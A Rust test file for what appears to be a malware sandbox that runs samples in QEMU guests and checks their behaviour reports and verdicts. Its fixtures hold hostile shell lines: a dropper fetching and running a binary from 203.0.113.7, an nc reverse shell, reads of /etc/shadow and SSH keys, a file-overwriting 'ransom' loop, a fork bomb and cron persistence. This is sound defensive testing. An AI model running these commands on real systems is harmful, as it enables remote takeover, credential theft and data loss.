//! Tests of samples in real VMs: real QEMU without KVM, the guest of `make guest`, and the real binary.
//!
//! The guest is built if it does not exist (`guest/build`, which fetches Debian packages the first time).

mod silence;

use crate::control::gate::{PATIENCE, Site, Up, wait_for};
use crate::harness::weir;
use serde_json::{Value, json};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

/// Only one of these tests at a time, because each keeps a processor busy.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

/// A lab with VMs, and its data folder.
pub(crate) struct Lab {
    pub(crate) site: Site,
    /// How long to wait for a sample, including the boot of its guest.
    pub(crate) patience: Duration,
    _alone: MutexGuard<'static, ()>,
}

impl Lab {
    fn new(vms: &str) -> Lab {
        Lab::with(vms, "")
    }

    pub(crate) fn with(vms: &str, more: &str) -> Lab {
        Lab::watching(vms, more, 60)
    }

    /// A lab that watches samples for this many seconds, for tests that need the end of all of them on a slow machine.
    pub(crate) fn watching(vms: &str, more: &str, watch_s: u32) -> Lab {
        Lab::of_guest(&guest(), vms, more, watch_s)
    }

    /// The same with another guest.
    pub(crate) fn of_guest(guest: &Path, vms: &str, more: &str, watch_s: u32) -> Lab {
        let alone = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
        let site = Site::new(&format!(
            "[lab]\nenabled = true\nslots = 1\nattempts = 2\nguest = {guest:?}\nvms = {vms}\nvm_accelerator = \"tcg\"\nvm_watch = \"{watch_s}s\"\n{more}"
        ));
        // The folder must be a valid data folder before something is put into it.
        fs::create_dir_all(site.data()).unwrap();
        fs::write(site.data().join("format"), "weir data folder, format 1\n").unwrap();
        // A guest boots only once for all of these tests, because a snapshot fits every lab with the same guest.
        let (known, vms) = (snapshots(), site.data().join("lab/vms"));
        fs::create_dir_all(&vms).unwrap();
        for entry in fs::read_dir(&known).into_iter().flatten().flatten() {
            fs::copy(entry.path(), vms.join(entry.file_name())).unwrap();
        }
        Lab { site, patience: PATIENCE, _alone: alone }
    }

    /// Submits a sample. Returns its number.
    pub(crate) fn submit(&self, name: &str, content: &[u8]) -> String {
        let file = self.site.home().join(name);
        fs::write(&file, content).unwrap();
        self.site.json(&["lab", "submit", file.to_str().unwrap()])[0]["sample"].to_string()
    }

    /// Waits until a sample has ended. Returns its page.
    #[track_caller]
    pub(crate) fn ended(&self, sample: &str) -> Value {
        let begun = Instant::now();
        loop {
            let page = self.site.json(&["lab", "report", sample]);
            if page["state"] != "queued" {
                self.keep_snapshots();
                return page;
            }
            assert!(begun.elapsed() < self.patience, "sample {sample} does not end: {page:#}");
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// What a sample did when it ran.
    #[track_caller]
    fn run(&self, name: &str, content: &[u8]) -> Value {
        let page = self.ended(&self.submit(name, content));
        assert_eq!(page["state"], "done", "{page:#}");
        full(&page)
    }

    pub(crate) fn keep_snapshots(&self) {
        fs::create_dir_all(snapshots()).unwrap();
        for entry in fs::read_dir(self.site.data().join("lab/vms")).into_iter().flatten().flatten() {
            let (name, to) = (entry.file_name(), snapshots().join(entry.file_name()));
            if name.to_string_lossy().starts_with("golden-") && !to.exists() {
                fs::copy(entry.path(), to).unwrap();
            }
        }
    }

    /// The QEMU processes of this lab.
    fn qemus(&self) -> Vec<u32> {
        let folder = self.site.data().join("lab/vms");
        let processes = fs::read_dir("/proc").unwrap().flatten();
        let pids = processes.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
        let is_ours = |pid: &u32| {
            let line = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let works = fs::read_link(format!("/proc/{pid}/cwd")).is_ok_and(|at| at.starts_with(&folder));
            String::from_utf8_lossy(&line).contains("qemu") && works
        };
        pids.filter(is_ours).collect()
    }
}

fn full(page: &Value) -> Value {
    full_of(page, "run-linux")
}

/// What a plugin that runs samples has seen.
#[track_caller]
pub(crate) fn full_of(page: &Value, plugin: &str) -> Value {
    let results = page["results"].as_array().unwrap();
    let ours = results.iter().find(|result| result["plugin"] == plugin && result["outcome"] == "done");
    ours.unwrap_or_else(|| panic!("no report of {plugin} in {page:#}"))["report"]["full"].clone()
}

/// The guest, built once.
fn guest() -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap();
    let guest = root.join("target/guest");
    if !guest.join("root.squashfs").exists() {
        let built = Command::new(root.join("guest/build")).status().expect("bash");
        assert!(built.success(), "the guest could not be built: run `make guest`");
    }
    guest
}

fn snapshots() -> PathBuf {
    std::env::temp_dir().join(format!("weir-snapshots-{}", std::process::id()))
}

fn list<'a>(full: &'a Value, what: &str) -> &'a [Value] {
    full[what].as_array().map_or(&[], Vec::as_slice)
}

fn has(full: &Value, what: &str, fields: &Value) -> bool {
    let fits = |entry: &Value| fields.as_object().unwrap().iter().all(|(key, value)| entry[key] == *value);
    list(full, what).iter().any(fits)
}

#[track_caller]
pub(crate) fn assert_has(full: &Value, what: &str, fields: &Value) {
    assert!(has(full, what, fields), "{fields} is not among {what} of {full:#}");
}

const SCRIPT: &str =
    "#!/bin/sh\necho hello > /tmp/dropped.txt\nwget -q -O /dev/null http://evil.example/x\nsleep 0.1 &\nwait\n";

#[test]
fn a_script_is_run_in_a_vm_and_the_report_says_what_it_did() {
    let lab = Lab::new("[\"vm1 tags=linux\"]");
    let _up = lab.site.up();
    let page = lab.ended(&lab.submit("script.sh", SCRIPT.as_bytes()));
    assert_eq!(page["state"], "done", "{page:#}");
    let full = full(&page);
    assert_eq!(
        (&full["ended"], &full["accelerator"], &full["machine"]),
        (&json!("exit 0"), &json!("tcg"), &json!("vm1"))
    );
    // Exactly that: one file, one name, one connection, one request and three processes, and nothing persistent.
    let sha256 = "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03";
    let first = &list(&full, "processes")[0]["pid"];
    let mut files = full["files"].clone();
    let written_at = files[0].as_object_mut().and_then(|file| file.remove("at_ms"));
    assert_eq!(
        files,
        json!([{ "pid": first, "path": "/tmp/dropped.txt", "what": "written", "bytes": 6, "sha256": sha256 }]),
        "{full:#}"
    );
    // The times must be right: the shell came first, then its file, then what it fetched.
    let at = |entry: &Value| entry["at_ms"].as_u64().unwrap_or_else(|| panic!("no time in {entry:#}"));
    let written_at = written_at.and_then(|at| at.as_u64()).expect("a time");
    let fetched_at = at(list(&full, "network").last().unwrap());
    assert!(at(&list(&full, "processes")[0]) <= written_at && written_at <= fetched_at, "{full:#}");
    assert_eq!(full["acts"], json!([]), "{full:#}");
    let network: Vec<&str> = list(&full, "network").iter().filter_map(|entry| entry["what"].as_str()).collect();
    assert_eq!(network, ["dns", "connect", "http"], "{full:#}");
    assert_has(&full, "network", &json!({ "what": "dns", "to": "evil.example" }));
    assert_has(&full, "network", &json!({ "what": "http", "detail": "GET /x", "host": "evil.example" }));
    let (first, wget) = (&list(&full, "processes")[0], &list(&full, "processes")[1]);
    assert_eq!((&first["path"], &first["user"]), (&json!("/home/user/script.sh"), &json!(1000)));
    assert_eq!((&wget["parent"], &wget["ended"]), (&first["pid"], &json!("exit 0")), "{full:#}");
    assert_eq!(wget["arguments"][0], "wget");
    assert_eq!((list(&full, "processes").len(), &full["persistence"]), (3, &json!([])), "{full:#}");
    let result = page["results"].as_array().unwrap().iter().find(|result| result["plugin"] == "run-linux").unwrap();
    assert_has(&result["report"], "artifacts", &json!({ "dataType": "file", "filename": "dropped.txt" }));
    assert_has(&result["report"], "artifacts", &json!({ "dataType": "url", "data": "http://evil.example/x" }));
    assert_eq!(
        page["verdict"], "unknown",
        "that alone speaks against nobody, and nobody knows what was fetched: {page:#}"
    );
    let reasons = page["reasons"].to_string();
    assert!(
        reasons.contains("it called evil.example, and what would really be answered there is not known"),
        "{reasons}"
    );
    let said = lab.site.weir(&["lab", "report", &page["sample"].to_string()]).stdout;
    for line in [
        "ran        ",
        "    wget -q -O /dev/null http://evil.example/x (process ",
        "files      written /tmp/dropped.txt, 6 B",
        "network    dns evil.example",
        "http ",
    ] {
        assert!(said.contains(line), "{line:?} is not in\n{said}");
    }
    // The next sample must find nothing of it.
    let next = lab.run("next.sh", b"#!/bin/sh\nls /tmp\nid -u\n");
    assert_eq!((&next["output"], &next["files"]), (&json!("1000\n"), &json!([])), "{next:#}");
}

#[test]
fn static_programs_double_forks_and_sessions_are_followed() {
    let lab = Lab::new("[\"vm1\"]");
    let _up = lab.site.up();
    // As `id`, busybox is a static program that prints which user runs it.
    let busybox = fs::read("/bin/busybox").or_else(|_| fs::read("/usr/bin/busybox")).expect("busybox-static is here");
    let full = lab.run("id", &busybox);
    assert!(full["output"].as_str().unwrap().starts_with("uid=1000(user)"), "{full:#}");
    let script = "#!/bin/sh\n( ( sleep 0.3; echo late > /tmp/late ) & )\nsetsid sh -c 'sleep 0.3; echo d > /tmp/daemon' &\n\
                  echo 'x' >> ~/.bashrc\necho x > /etc/cron.d/evil\nmv /tmp/late /tmp/none; touch /tmp/a; mv /tmp/a /tmp/b; rm /tmp/b\n\
                  exit 3\n";
    let full = lab.run("forks.sh", script.as_bytes());
    assert_eq!(full["ended"], "exit 3");
    for path in ["/tmp/late", "/tmp/daemon", "/home/user/.bashrc"] {
        assert_has(&full, "files", &json!({ "path": path, "what": "written" }));
    }
    assert_has(&full, "files", &json!({ "path": "/tmp/a", "what": "renamed", "to": "/tmp/b" }));
    assert_has(&full, "files", &json!({ "path": "/tmp/b", "what": "deleted" }));
    assert!(!has(&full, "files", &json!({ "path": "/etc/cron.d/evil" })), "it could not write there: {full:#}");
    assert_has(&full, "acts", &json!({ "what": "session" }));
    assert_has(&full, "persistence", &json!({ "path": "/home/user/.bashrc", "what": "shell" }));
    assert_has(&full, "persistence", &json!({ "path": "/etc/cron.d/evil", "what": "cron" }));
}

#[test]
fn what_a_sample_does_decides_about_it() {
    // The files that samples leave are samples too; two of them are enough here.
    let lab = Lab::with("[\"vm1\"]", "children_count = 2\n");
    let _up = lab.site.up();
    let table: [(&str, &str, &str, &[&str]); 9] = [
        (
            "honest.sh",
            "mkdir /tmp/a; seq 1 99 > /tmp/a/b; gzip /tmp/a/b; ls -l /tmp/a; (sleep 0.1; true) &",
            "clean",
            &[],
        ),
        ("cron.sh", "echo x > /etc/cron.d/x", "suspicious", &["stays"]),
        // Through a link it is the same file.
        ("link.sh", "ln -s ~/.profile /tmp/l; echo x >> /tmp/l", "suspicious", &["stays"]),
        ("shadow.sh", "cd /etc; cat shadow", "suspicious", &["reads-passwords"]),
        ("guards.sh", "systemctl stop auditd; cat ~/.ssh/id_ed25519", "malicious", &["stops-guards", "reads-keys"]),
        (
            "dropper.sh",
            "wget -q -O /tmp/x http://203.0.113.7/bot; chmod +x /tmp/x; /tmp/x; rm -- \"$0\"",
            "malicious",
            &["runs-fetched", "raw-address", "deletes-itself"],
        ),
        ("shell.sh", "nc 203.0.113.7 4444 -e /bin/sh", "malicious", &["takes-orders", "raw-address"]),
        (
            "ransom.sh",
            "for f in ~/Documents/*; do head -c 3000 /dev/urandom > \"$f\"; done",
            "malicious",
            &["encrypts"],
        ),
        ("miner.sh", "nslookup pool.supportxmr.com; pkill -f xmrig", "malicious", &["mines", "kills-others"]),
    ];
    for (name, script, verdict, rules) in table {
        let page = lab.ended(&lab.submit(name, format!("#!/bin/sh\n{script}\nexit 0\n").as_bytes()));
        let results = page["results"].as_array().unwrap();
        let ours = results.iter().find(|result| result["plugin"] == "run-linux").unwrap();
        let found = list(&ours["report"]["summary"], "taxonomies");
        let has = |rule: &&str| found.iter().any(|line| line["predicate"] == **rule && line["level"] != "info");
        assert!(rules.iter().all(has), "{name} {rules:?}: {page:#}");
        assert_eq!(page["verdict"], verdict, "{name}: {page:#}");
    }
}

/// A static program that prints `hello` and ends, for this machine, with its byte order and its code. The text comes after the code.
fn foreign(machine: u16, big: bool, code: &[u32]) -> Vec<u8> {
    let half = |number: u16| if big { number.to_be_bytes() } else { number.to_le_bytes() };
    let word = |number: u32| if big { number.to_be_bytes() } else { number.to_le_bytes() };
    let base = 0x0040_0000;
    let length = 52 + 32 + 4 * code.len() as u32 + 6;
    let mut file = vec![0x7f, b'E', b'L', b'F', 1, if big { 2 } else { 1 }, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    [2, machine].into_iter().for_each(|number| file.extend(half(number)));
    // MIPS states its variant in the flags, ARM its calling convention.
    let flags = if machine == 8 { 0x1000 } else { 0x0500_0000 };
    [1, base + 84, 52, 0, flags].into_iter().for_each(|number| file.extend(word(number)));
    [52, 32, 1, 0, 0, 0].into_iter().for_each(|number| file.extend(half(number)));
    [1, 0, base, base, length, length, 5, 0x1000].into_iter().for_each(|number| file.extend(word(number)));
    code.iter().for_each(|number| file.extend(word(*number)));
    file.extend(b"hello\n");
    file
}

/// The same for 64-bit ARM.
fn foreign_64() -> Vec<u8> {
    // mov x0, #1; adr x1, text; mov x2, #6; mov x8, #64; svc 0; mov x0, #0; mov x8, #93; svc 0
    let code: [u32; 8] =
        [0xd280_0020, 0x1000_00e1, 0xd280_00c2, 0xd280_0808, 0xd400_0001, 0xd280_0000, 0xd280_0ba8, 0xd400_0001];
    let base = 0x0040_0000_u64;
    let length = 64 + 56 + 4 * code.len() as u64 + 6;
    let mut file = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    [2_u16, 183].into_iter().for_each(|number| file.extend(number.to_le_bytes()));
    file.extend(1_u32.to_le_bytes());
    [base + 120, 64, 0].into_iter().for_each(|number| file.extend(number.to_le_bytes()));
    file.extend(0_u32.to_le_bytes());
    [64_u16, 56, 1, 0, 0, 0].into_iter().for_each(|number| file.extend(number.to_le_bytes()));
    [1_u32, 5].into_iter().for_each(|number| file.extend(number.to_le_bytes()));
    [0, base, base, length, length, 0x1000].into_iter().for_each(|number| file.extend(number.to_le_bytes()));
    code.iter().for_each(|number| file.extend(number.to_le_bytes()));
    file.extend(b"hello\n");
    file
}

#[test]
fn programs_for_other_processors_run_and_so_does_compiled_python() {
    let lab = Lab::watching("[\"vm1\"]", "", 60);
    let _up = lab.site.up();
    // mov r0, #1; adr r1, text; mov r2, #6; mov r7, #4; svc 0; mov r0, #0; mov r7, #1; svc 0
    let arm = [0xe3a0_0001, 0xe28f_1014, 0xe3a0_2006, 0xe3a0_7004, 0xef00_0000, 0xe3a0_0000, 0xe3a0_7001, 0xef00_0000];
    // li v0, 4004; li a0, 1; lui a1, text; ori a1, text; li a2, 6; syscall; li v0, 4001; li a0, 0; syscall
    let mips = [
        0x2402_0fa4,
        0x2404_0001,
        0x3c05_0040,
        0x34a5_0078,
        0x2406_0006,
        0x0000_000c,
        0x2402_0fa1,
        0x2404_0000,
        0x0000_000c,
    ];
    for (name, program) in [
        ("hello.arm", foreign(40, false, &arm)),
        ("hello.arm64", foreign_64()),
        ("hello.mips", foreign(8, true, &mips)),
        ("hello.mipsel", foreign(8, false, &mips)),
    ] {
        let page = lab.ended(&lab.submit(name, &program));
        let full = full(&page);
        assert_eq!((&full["output"], &full["ended"]), (&json!("hello\n"), &json!("exit 0")), "{name}: {page:#}");
        assert_eq!(page["verdict"], "clean", "{name}: {page:#}");
    }
    // Bytecode of the guest's own version of Python, and of a version that does not exist.
    let compiled = lab.run("compile.sh", b"#!/bin/sh\ncd /tmp; echo 'print(6 * 7)' > a.py; python3 -c 'import py_compile; py_compile.compile(\"a.py\", \"a.pyc\")'; base64 -w0 a.pyc\n");
    let text = compiled["output"].as_str().unwrap().trim();
    let mut code = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, text).unwrap();
    let full = lab.run("a.pyc", &code);
    assert_eq!((&full["output"], &full["ended"]), (&json!("42\n"), &json!("exit 0")), "{full:#}");
    code[0] ^= 1;
    let page = lab.ended(&lab.submit("b.pyc", &code));
    assert_eq!(page["verdict"], "unknown", "{page:#}");
    assert!(page["reasons"].to_string().contains("compiled for another version of Python"), "{page:#}");
}

/// What samples check first to find out whether they run in a sandbox.
#[test]
fn the_guest_looks_like_a_machine_that_somebody_uses() {
    let lab = Lab::watching("[\"vm1\"]", "", 60);
    let _up = lab.site.up();
    let script = "#!/bin/bash\nset -- $(df -P --block-size=1G / | tail -1); echo disk $2 free $4\n\
        echo block $(cat /sys/block/vda/size)\nset -- $(free -m | grep Mem); echo memory $2\nbusybox free -m | awk '/Mem/ { print \"sysinfo\", $2 }'\n\
        echo processors $(nproc) $(getconf _NPROCESSORS_ONLN)\necho up $(( $(cut -d. -f1 /proc/uptime) / 86400 ))\n\
        python3 -c 'import shutil; print(\"python\", shutil.disk_usage(\"/home\").total >> 20)'\n";
    let full = lab.run("look.sh", script.as_bytes());
    let output = full["output"].as_str().unwrap();
    for line in
        ["disk 459 free ", "block 1000215216", "memory 7852", "sysinfo 785", "processors 4 4", "up 9", "python 3926"]
    {
        assert!(output.contains(line), "{line:?} is not in\n{output}");
    }
}

#[test]
fn samples_that_attack_their_guest_harm_nobody_else() {
    // One of these samples never ends, so the end of its watch must be waited for.
    let lab = Lab::watching("[\"vm1\"]", "", 12);
    let _up = lab.site.up();
    for (name, script, ended) in [
        ("off.sh", "poweroff -f; reboot -f; halt -f; echo o > /proc/sysrq-trigger; kill -9 1; kill -9 -1; exit 5", ""),
        ("forks.sh", "while :; do sh \"$0\" & done", ""),
        ("disk.sh", "for d in /tmp /var/tmp /dev/shm ~; do cat /dev/zero > $d/fill; done; exit 7", ""),
        ("memory.sh", "x=x; while :; do x=$x$x; done", ""),
        ("hang.sh", "trap '' TERM; while :; do sleep 1; done", "watched 12 s"),
        ("stop.sh", "kill -STOP $$; exit 6", "exit 6"),
        ("serial.sh", "for p in /dev/vport* /dev/hvc* /dev/ttyS0; do cat /dev/urandom > $p; done; exit 8", "exit 8"),
    ] {
        let full = lab.run(name, format!("#!/bin/sh\n{script}\n").as_bytes());
        assert!(ended.is_empty() || full["ended"] == ended, "{name}: {full:#}");
        let next =
            lab.run(&format!("after-{name}"), format!("#!/bin/sh\n# after {name}\nls -A /tmp /var/tmp\n").as_bytes());
        assert_eq!(next["ended"], "exit 0", "after {name}: {next:#}");
        assert_eq!(next["output"], "/tmp:\n\n/var/tmp:\n", "after {name}");
    }
}

#[test]
fn a_guest_that_is_brought_down_counts_as_an_attempt_and_comes_back() {
    let lab = Lab::new("[\"vm1 user=root\"]");
    let _up = lab.site.up();
    for (name, script) in [("off.sh", "poweroff -f; sleep 60"), ("crash.sh", "echo c > /proc/sysrq-trigger; sleep 60")]
    {
        let page = lab.ended(&lab.submit(name, format!("#!/bin/sh\n{script}\n").as_bytes()));
        assert_eq!((&page["state"], &page["verdict"]), (&json!("quarantined"), &json!("suspicious")), "{page:#}");
        assert!(page["reasons"].to_string().contains("kills-guest: the guest died"), "{page:#}");
        let results = page["results"].as_array().unwrap();
        let died = results.iter().filter(|result| result["report"]["errorMessage"] == "the guest died").count();
        assert_eq!(died, 2, "as many as there may be attempts: {page:#}");
        let next = lab.run(&format!("after-{name}"), format!("#!/bin/sh\n# after {name}\nid -u\n").as_bytes());
        assert_eq!(next["output"], "0\n");
    }
    // Not even root can kill the agent, because it is the first process.
    let full = lab.run("agent.sh", b"#!/bin/sh\nkill -9 1; kill -STOP 1; sleep 0.2; echo still\n");
    assert_eq!((&full["ended"], &full["output"]), (&json!("exit 0"), &json!("still\n")), "{full:#}");
    assert_has(&full, "acts", &json!({ "what": "kills", "detail": "9 1" }));
    // The agent's port is open already, so no other program can open it.
    let full = lab.run("serial.sh", b"#!/bin/sh\ncat /dev/urandom > /dev/vport0p1 || exit 9\n");
    assert_eq!(full["ended"], "exit 9", "{full:#}");
}

#[test]
fn kills_of_qemu_and_of_the_lab_lose_nothing() {
    const THRESHOLD: Duration = Duration::from_secs(240);
    let lab = Lab::with("[\"vm1\", \"vm2 revert=process\"]", "threshold = \"240s\"\n");
    let up = lab.site.up();
    lab.run("first.sh", b"#!/bin/sh\ntrue\n");
    let mut up = Some(up);
    for round in 0..rounds() {
        let script = |n: &str| format!("#!/bin/sh\nsleep 1; echo {round} {n}\n");
        let samples: Vec<String> =
            (0..4).map(|n| lab.submit(&format!("{n}.sh"), script(&n.to_string()).as_bytes())).collect();
        std::thread::sleep(Duration::from_millis(700));
        let victims = wait_for("a VM", || Some(lab.qemus()).filter(|victims| !victims.is_empty()));
        for pid in victims {
            // These processes are ours; they are killed by their numbers.
            let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
        }
        let is_done = |sample: &str, n: &str| {
            let page = lab.ended(sample);
            assert_eq!((&page["state"], &full(&page)["output"]), (&json!("done"), &json!(format!("{round} {n}\n"))));
        };
        let killed = Instant::now();
        samples.iter().enumerate().for_each(|(n, sample)| is_done(sample, &n.to_string()));
        assert!(killed.elapsed() < THRESHOLD, "queued again within the threshold, and done");
        let sample = lab.submit("last.sh", script("last").as_bytes());
        std::thread::sleep(Duration::from_millis(500));
        up.take().into_iter().for_each(|up| kill_with_its_vms(&lab, up));
        up = Some(lab.site.up());
        is_done(&sample, "last");
    }
}

/// How often everything is killed; `make soak` does it more often.
fn rounds() -> u32 {
    std::env::var("WEIR_VM_KILLS").ok().and_then(|rounds| rounds.parse().ok()).unwrap_or(1)
}

/// Checks that QEMU ends when the process that started it is killed without warning.
fn kill_with_its_vms(lab: &Lab, up: Up) {
    up.kill();
    wait_for("QEMU to be gone", || lab.qemus().is_empty().then_some(()));
}

/// Lets a lab work in a network namespace of its own. Panics if its QEMU sends or receives a packet after `first` was done.
pub(crate) fn without_a_packet<T>(lab: &Lab, first: impl FnOnce(), act: impl FnOnce() -> T) -> T {
    let space = format!("weirvm{}", std::process::id());
    let ip = |words: &str| {
        let done = Command::new("ip").args(words.split_whitespace()).output();
        let done = done.unwrap_or_else(|error| panic!("`ip` is needed ({error}): run `make setup`"));
        assert!(done.status.success(), "ip {words}: {} (root is needed)", String::from_utf8_lossy(&done.stderr));
    };
    ip(&format!("netns add {space}"));
    // There is only loopback, for the listeners of the lab's own machine.
    ip(&format!("-n {space} link set lo up"));
    let inner = lab.site.command(&["up"]);
    let mut command = Command::new("ip");
    command.args(["netns", "exec", &space]).arg(inner.get_program()).args(inner.get_args());
    let up = Site::start(command);
    first();
    let qemu = lab.qemus()[0];
    let packets = || {
        let table = fs::read_to_string(format!("/proc/{qemu}/net/dev")).unwrap();
        table.lines().skip(2).map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect::<Vec<_>>()
    };
    let before = packets();
    assert!(before.len() == 1 && before[0].starts_with("lo:"), "{before:?}");
    let done = act();
    let after = packets();
    drop(up);
    ip(&format!("netns del {space}"));
    assert_eq!(before, after, "no packet was sent or received");
    done
}

#[test]
fn nothing_leaves_the_guest() {
    let lab = Lab::new("[\"vm1\"]");
    let script = "#!/bin/sh\nwget -q -O /dev/null http://evil.example/\nwget -q -O /dev/null http://10.1.2.3:4444/x\n\
                  nslookup name.example 8.8.8.8 > /dev/null\nping -c 1 -W 1 192.0.2.7\necho x | nc -w 1 2001:db8::1 25\nexit 0\n";
    let first = || drop(lab.run("first.sh", b"#!/bin/sh\ntrue\n"));
    let full = without_a_packet(&lab, first, || lab.run("calls.sh", script.as_bytes()));
    for call in [
        json!({ "what": "dns", "to": "evil.example" }),
        json!({ "what": "dns", "to": "name.example" }),
        json!({ "what": "connect", "to": "10.1.2.3:4444" }),
        json!({ "what": "http", "to": "10.1.2.3:4444", "detail": "GET /x" }),
    ] {
        assert_has(&full, "network", &call);
    }
}

#[test]
fn a_lab_without_a_guest_says_so() {
    let site = Site::only("[lab]\nenabled = true\nguest = \"/nowhere\"\nvms = [\"vm1\"]\n");
    let said = weir(&["check", "--config", site.home().join("weir.toml").to_str().unwrap()]).ok();
    assert!(said.contains("the lab would not start: the VM vm1 has no guest"), "{said}");
    site.weir(&["up"]).refused(&["the VM vm1 has no guest", "make guest"]);
    let site = Site::only("[lab]\nenabled = true\nvms = [\"vm1 speed=11\"]\n");
    site.weir(&["up"]).refused(&["lab.vms", "speed=11"]);
    let site = Site::new("[lab]\nenabled = true\n");
    assert!(site.up().said.contains("no VM (lab.vms; `make guest`"));
}
